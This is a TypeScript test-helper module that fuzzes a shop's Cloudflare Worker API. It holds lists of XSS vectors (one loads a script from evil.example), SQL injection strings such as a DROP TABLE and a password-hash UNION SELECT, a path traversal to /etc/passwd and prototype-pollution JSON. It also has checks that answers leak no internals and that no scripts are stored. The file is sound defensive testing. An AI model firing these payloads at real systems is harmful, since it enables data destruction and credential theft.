import { env } from 'cloudflare:workers';
import fc from 'fast-check';
import { expect } from 'vitest';
import { countOf } from './rows';

/**
 * Hostile input for the worker tests: the payloads an attacker types into every field, arbitraries
 * that mix them with random text, and the checks every answer and the database must pass.
 */

/** Markup and script vectors, each in a position where a browser would run it. */
export const SCRIPT_FRAGMENTS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onerror='alert(1)",
  ' onerror=alert(1)',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(document.cookie)',
  'java\tscript:alert(1)',
  '<svg/onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<!--<script>-->',
  '<script',
] as const;

export const SQL_FRAGMENTS = [
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  '" OR 1=1 --',
  '1; SELECT * FROM sessions',
  "' UNION SELECT password_hash FROM users --",
  "%' --",
  "\\'; --",
] as const;

/** C0 and C1 controls, bidi overrides, zero-width and BOM characters, replacement char, lone surrogates. */
export const ODD_CHARACTERS = [
  ...'\u0000\u0001\u0007\b\t\n\u000b\f\r\u001b\u007f\u0085\u00a0\u2028\u2029\u200b\u200e\u202e\ufeff\ufffd',
  '\ud800',
  '\udfff',
];

const oddText = fc.array(fc.constantFrom(...ODD_CHARACTERS), { minLength: 1, maxLength: 12 }).map((chars) => chars.join(''));

/** Any string a hostile client might put in a text field. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...SCRIPT_FRAGMENTS, ...SQL_FRAGMENTS, '../../etc/passwd', '%00', 'Ñoño 名前 مرحبا 🧪', ''),
  fc.string({ unit: 'binary', maxLength: 40 }),
  oddText,
  // A fragment inside ordinary text, the way it reaches a name or an address field.
  fc
    .tuple(
      fc.string({ unit: 'grapheme', maxLength: 12 }),
      fc.constantFrom(...SCRIPT_FRAGMENTS, ...SQL_FRAGMENTS),
      fc.string({ maxLength: 12 }),
    )
    .map(([before, fragment, after]) => `${before} ${fragment} ${after}`),
  fc.integer({ min: 300, max: 5000 }).map((n) => 'A'.repeat(n)),
);

/** A path segment or header value for any string (lone surrogates become U+FFFD, as a browser sends them). */
export function urlSafe(text: string): string {
  return encodeURIComponent(text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd'));
}

/** Anything JSON can carry where a string is expected. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  fc.constantFrom(null, true, false, 0, -1, 1e308, -0, 0.5, Number.MAX_SAFE_INTEGER + 2),
  fc.jsonValue({ maxDepth: 3 }),
);

/** Addresses: fresh valid ones (the request then goes deep), valid ones carrying payloads, and junk. */
export const hostileEmail: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: fc.uuid().map((id) => `fuzz.${id.slice(0, 18)}@vitaglow-mail.com`), weight: 4 },
  fc.constantFrom(...SCRIPT_FRAGMENTS, ...SQL_FRAGMENTS).map((fragment) => `${fragment}@vitaglow-mail.com`),
  fc.constantFrom(...SCRIPT_FRAGMENTS).map((fragment) => `shopper@${fragment}.com`),
  fc.constantFrom("o'neil+x@vitaglow-mail.com", 'UPPER.case@VitaGlow-Mail.com', ' padded@vitaglow-mail.com ', 'a@b.co'),
  hostileValue,
);

/**
 * A body in one of the shapes a broken or hostile client sends: the route's own shape with hostile
 * fields, random JSON, deeply nested JSON, text that is not JSON, or JSON with prototype keys.
 */
export function hostileBody(shaped: fc.Arbitrary<unknown>): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 6, arbitrary: shaped.map((value) => JSON.stringify(value)) },
    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 4 }).map((value) => JSON.stringify(value)) },
    { weight: 1, arbitrary: deepJson },
    { weight: 1, arbitrary: notJson },
  );
}

/** Nesting as deep as fits in the body limit: arrays, objects, or an item list. */
export const deepJson: fc.Arbitrary<string> = fc.oneof(
  fc.integer({ min: 100, max: 7000 }).map((n) => '['.repeat(n) + ']'.repeat(n)),
  fc.integer({ min: 100, max: 2500 }).map((n) => '{"a":'.repeat(n) + '1' + '}'.repeat(n)),
  fc.integer({ min: 100, max: 1500 }).map((n) => `{"items":[${'{"id":'.repeat(n)}1${'}'.repeat(n)}]}`),
);

export const notJson: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '',
    '{',
    '{"email":',
    '[1,2',
    'null',
    'undefined',
    'NaN',
    '{"a":1}{"b":2}',
    "{'single':'quotes'}",
    '\ufeff{}',
    '{"__proto__":{"admin":true},"constructor":{"prototype":{"x":1}}}',
  ),
  fc.string({ unit: 'binary', maxLength: 60 }),
  oddText,
);

/** Content types a client may claim; only the first two are JSON. */
export const CONTENT_TYPES = [
  'application/json',
  'application/json; charset=utf-8',
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  'application/json-patch+json',
  'text/html',
] as const;

/** Over the 16 KB limit; `streamed` bodies go without a Content-Length, as a chunked upload does. */
export const oversizedBody: fc.Arbitrary<{ text: string; streamed: boolean }> = fc
  .tuple(fc.integer({ min: 16 * 1024 + 1, max: 200 * 1024 }), fc.boolean())
  .map(([size, streamed]) => ({ text: JSON.stringify({ pad: 'x'.repeat(size) }), streamed }));

/** The text as a stream of 4 KB chunks (a fresh one per call: a stream is read once). */
export function streamOf(text: string): ReadableStream<Uint8Array> {
  const bytes = new TextEncoder().encode(text);
  const chunk = 4096;
  let offset = 0;
  return new ReadableStream({
    pull(controller) {
      if (offset >= bytes.length) return controller.close();
      controller.enqueue(bytes.slice(offset, offset + chunk));
      offset += chunk;
    },
  });
}

/** Leaked internals: stack frames, driver and SQLite errors, JavaScript error names. */
const INTERNALS = [
  /\n\s*at /,
  /\bat [\w$.<>]+ \(/,
  /\.ts:\d+:\d+/,
  /\.js:\d+:\d+/,
  /\bD1_[A-Z]|\bSQLITE_|Failed query/,
  /\b(?:Type|Reference|Syntax|Range)Error\b/,
  /"stack"/,
];

/**
 * The property every API answer keeps, whatever was sent: 2xx, or a 4xx JSON error with a stable
 * string code; never a 5xx; no stack trace or internal error text. Returns the status.
 */
export async function expectSafeAnswer(res: Response, what: string): Promise<number> {
  const text = await res.text();
  expect(res.status, `${what} → ${res.status} ${text.slice(0, 300)}`).toBeLessThan(500);
  for (const pattern of INTERNALS) expect(text, `${what} leaks internals`).not.toMatch(pattern);
  if (res.status >= 400) {
    expect(res.headers.get('Content-Type'), what).toMatch(/^application\/json/);
    const body = JSON.parse(text) as { error?: { code?: unknown } };
    expect(body.error?.code, `${what}: error code`).toEqual(expect.stringMatching(/^[a-z][a-z_]*$/));
  }
  return res.status;
}

/** Script vectors that must never be stored or sent back, matched case-insensitively. */
export const SCRIPT_VECTORS = ['<script', 'javascript:', 'onerror='] as const;

/** Every text column of the tables that keep what shoppers typed, and of the outgoing mail. */
const SCANNED = {
  email_subscribers: ['email', 'coupon_code', 'language', 'coupon_reserved_by'],
  users: ['email', 'name', 'language'],
  orders: ['reference', 'kind', 'status', 'shipping_id', 'deal_code', 'coupon_code', 'language', 'customer_email', 'provider_session_id'],
  order_lines: ['product_id', 'deal_id', 'name'],
  email_outbox: ['to', 'subject', 'text'],
  email_deliveries: ['to', 'subject'],
} as const;

/** Rows in those tables holding a script vector, as `table.column: value`; and how many rows were scanned. */
export async function storedScripts(): Promise<{ hits: string[]; rows: number }> {
  const hits: string[] = [];
  let rows = 0;
  for (const [table, columns] of Object.entries(SCANNED)) {
    rows += await countOf(table);
    for (const column of columns) {
      const like = SCRIPT_VECTORS.map(() => `lower("${column}") like ?`).join(' or ');
      const { results } = await env.DB.prepare(`select "${column}" as value from ${table} where ${like}`)
        .bind(...SCRIPT_VECTORS.map((vector) => `%${vector}%`))
        .all<{ value: string }>();
      hits.push(...results.map((row) => `${table}.${column}: ${row.value}`));
    }
  }
  return { hits, rows };
}
